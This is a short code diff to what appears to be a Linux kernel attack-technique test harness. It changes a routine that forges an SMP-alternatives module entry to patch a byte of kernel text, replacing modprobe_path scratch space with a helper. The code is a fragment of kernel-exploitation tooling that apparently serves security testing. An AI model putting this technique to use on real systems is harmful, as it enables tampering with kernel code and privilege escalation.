@@ -9,10 +9,9 @@
 #include "attack.h"
 #include "list.h"
 #include "objects.h"
+#include "patching.h"
 
 #ifdef __x86_64__
-#define SCRATCH		"modprobe_path"	/* near text, and long enough */
-#define SCRATCH_USED	64		/* by a path */
 #define PATCHED		"uniproc_patched"
 #define MODULES		"smp_alt_modules"
 #define LOOKED_AT	320	/* less than either has */
@@ -49,7 +48,7 @@ static uint64_t find_byte(void)
 enum outcome smp_locks(void)
 {
 	uint64_t patched = ksymbol(PATCHED), list = ksymbol(MODULES), byte = find_byte();
-	uint64_t locks = ksymbol(SCRATCH) + SCRATCH_USED, next, prev;
+	uint64_t locks = room_near_text(), next, prev;
 	unsigned char now = 0, yes = 1, no = 0;
 	struct smp_module module = { 0 };
 	struct kernel_page page;
@@ -57,7 +56,7 @@ enum outcome smp_locks(void)
 
 	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
 		return skipped("needs a second CPU");
-	if (!patched || !list || !byte || !ksymbol(SCRATCH) || !kernel_page(&page))
+	if (!patched || !list || !byte || !locks || !kernel_page(&page))
 		return broken("no list, or no byte that could be a prefix");
 	offset = byte - locks;
 	module = (struct smp_module) {
